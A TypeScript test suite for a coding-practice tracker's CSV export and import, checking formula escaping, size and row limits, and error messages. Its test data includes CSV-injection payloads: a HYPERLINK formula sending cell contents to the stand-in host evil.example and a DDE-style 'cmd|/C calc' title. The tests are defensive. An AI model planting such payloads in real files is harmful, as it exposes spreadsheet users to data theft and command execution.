import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { expect } from 'chai';
import { testCliContext, testDeps } from '../support/app.ts';
import { loggedIn, seedLearner, seedProblems } from '../support/progress.ts';
import { ensureProblem } from '../../src/catalog/problemRepository.ts';
import { runCli } from '../../src/cli.ts';
import type { Learner } from '../../src/learners/learnerRepository.ts';
import { attemptsForLearner, recordAttempt } from '../../src/progress/attemptRepository.ts';

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

describe('CSV export and import – formulas escaped, catalog untouched, sizes bounded', () => {
  let t: ReturnType<typeof testDeps>;
  let mina: Learner;
  let joon: Learner;
  const fields = (l: Learner) =>
    attemptsForLearner(t.deps.db, l.id).map((a) => [a.problemId, a.day, a.outcome, a.minutes, a.note]);

  beforeEach(() => {
    t = testDeps({}, new Date('2026-03-01T15:30:00Z'));
    seedProblems(t.deps.db);
    ensureProblem(t.deps.db, { id: 'boj:2000', title: '@SUM(1+1)*cmd|/C calc!A0', level: 5 });
    mina = seedLearner(t.deps.db, 'mina', { language: 'en' });
    joon = seedLearner(t.deps.db, 'joon', { language: 'en' });
  });
  afterEach(() => t.cleanup());

  it('GET /export.csv – titles and notes starting with = + - @ tab or CR get a leading quote; the file imports back the same attempts', async () => {
    const notes = [FORMULA, '+1+2', '-3+4', '@me', '\tTAB', 'plain, "quoted" note', ''];
    const add = (problemId: string, day: string, note: string, minutes: number | null) =>
      recordAttempt(t.deps.db, {
        learnerId: mina.id,
        problemId,
        day,
        outcome: 'solved_slow',
        minutes,
        note,
        createdAt: '2026-03-01T00:00:00Z',
      });
    notes.forEach((note, i) => {
      add('boj:1260', `2026-02-0${i + 1}`, note, i);
    });
    add('boj:2000', '2026-02-20', '', null);
    const a = await loggedIn(t.app(), 'mina');
    const csv = (await a.agent.get('/export.csv')).text;
    const lines = csv.split('\r\n');
    expect(lines[1]).to.equal(`boj:1260,2026-02-01,solved_slow,0,"'${FORMULA.replace(/"/g, '""')}",manual,DFS와 BFS`);
    expect(lines[2]).to.contain(",'+1+2,");
    expect(lines[3]).to.contain(",'-3+4,");
    expect(lines[4]).to.contain(",'@me,");
    expect(lines[5]).to.contain(",'\tTAB,");
    expect(lines[8]).to.equal("boj:2000,2026-02-20,solved_slow,,,manual,'@SUM(1+1)*cmd|/C calc!A0");
    for (const line of lines.slice(1)) for (const cell of line.split(',')) expect(cell).not.to.match(/^[=+@\t]/);

    const b = await loggedIn(t.app(), 'joon');
    const back = await b.agent.post('/history/import').type('form').send({ _csrf: b.csrf, csv });
    expect(back.status).to.equal(200);
    // Notes are trimmed when imported, as when typed: the tab note comes back as "TAB".
    expect(fields(joon)).to.deep.equal(fields(mina).map(([p, d, o, m, note]) => [p, d, o, m, String(note).trim()]));
    expect(fields(joon)[0][4]).to.equal(FORMULA);
  });

  it('POST /history/import – 60 rows of problems on no list – kept as the learner’s off-list problems; one summary line; no list gains them; another learner sees none', async () => {
    const listed = () => t.deps.db.prepare('SELECT count(*) FROM problems WHERE off_list = 0').pluck().get();
    const before = listed();
    const rows = Array.from({ length: 60 }, (_, i) => `boj:${900000 + i},2026-02-01,solved,5`);
    const a = await loggedIn(t.app(), 'mina');
    const res = await a.agent
      .post('/history/import')
      .type('form')
      .send({
        _csrf: a.csrf,
        csv: ['problem,day,outcome,minutes', 'boj:1260,2026-02-01,solved,5', ...rows].join('\n'),
      });
    expect(res.status).to.equal(200);
    expect(res.text).to.contain('61 imported: 1 on your lists, 60 kept off-list');
    expect(res.text).not.to.contain('<details class="import-skipped">');
    expect(fields(mina)).to.have.length(61);
    expect(listed()).to.equal(before);
    expect(fields(joon)).to.deep.equal([]);
  });

  it('POST /history/import – over 1 MB or over 5,000 rows – 413 naming the limit, nothing imported, the text not echoed', async () => {
    const a = await loggedIn(t.app(), 'mina');
    const big = `problem,day,outcome,minutes,note\n${`boj:1260,2026-02-01,solved,5,${'x'.repeat(1000)}\n`.repeat(1100)}`;
    const large = await a.agent.post('/history/import').type('form').send({ _csrf: a.csrf, csv: big });
    expect(large.status).to.equal(413);
    expect(large.text).to.contain('import at most 1048576 bytes (1 MB) at a time');
    expect(large.text).not.to.contain('x'.repeat(1000));
    const many = `problem,day,outcome,minutes\n${'boj:1260,2026-02-01,solved,5\n'.repeat(5001)}`;
    const rows = await a.agent.post('/history/import').type('form').send({ _csrf: a.csrf, csv: many });
    expect(rows.status).to.equal(413);
    expect(rows.text).to.contain('5000');
    const ok = await a.agent
      .post('/history/import')
      .type('form')
      .send({ _csrf: a.csrf, csv: `problem,day,outcome,minutes\n${'boj:1260,2026-02-01,solved,5\n'.repeat(5000)}` });
    expect(ok.status).to.equal(200);
    expect(fields(mina)).to.have.length(1); // 5,000 copies of one row are one attempt
  });

  it('POST /history/import – unbalanced quotes – 422 naming the line, not the parser’s words', async () => {
    const a = await loggedIn(t.app(), 'mina');
    const res = await a.agent.post('/history/import').type('form').send({
      _csrf: a.csrf,
      csv: 'problem,day,outcome,minutes\nboj:1260,2026-02-01,solved,5\n"boj:1000,2026-02-01,solved,5\n',
    });
    expect(res.status).to.equal(422);
    expect(res.text).to.contain('The CSV is malformed near line 3: check its double quotes.');
    expect(res.text).not.to.contain('Quote Not Closed');
  });

  it('cote history import --format csv – a file over 1 MB or a bad problem id – exit 1, one stderr line, nothing imported', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cote-csv-'));
    try {
      const { cli, err } = testCliContext(t);
      const file = path.join(dir, 'big.csv');
      fs.writeFileSync(file, `problem,day,outcome,minutes\n${'boj:1260,2026-02-01,solved,5\n'.repeat(40000)}`);
      expect(
        await runCli(['node', 'cote', 'history', 'import', file, '--learner', 'mina', '--format', 'csv'], cli),
      ).to.equal(1);
      expect(err).to.have.length(1);
      expect(err[0]).to.match(/^cote: the CSV is \d+ bytes: import at most 1048576 bytes \(1 MB\) at a time$/);
      err.length = 0;
      fs.writeFileSync(file, 'problem,day,outcome,minutes\nboj:31337,2026-02-01,solved,5\nboj:0,2026-02-01,solved,5\n');
      expect(
        await runCli(['node', 'cote', 'history', 'import', file, '--learner', 'mina', '--format', 'csv'], cli),
      ).to.equal(1);
      expect(err).to.deep.equal([
        'cote: 1 bad row(s), nothing imported; first: line 3: problem "boj:0" is not a problem reference like boj:1260: Baekjoon ids are a number from 1, like 1260',
      ]);
      expect(fields(mina)).to.deep.equal([]);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
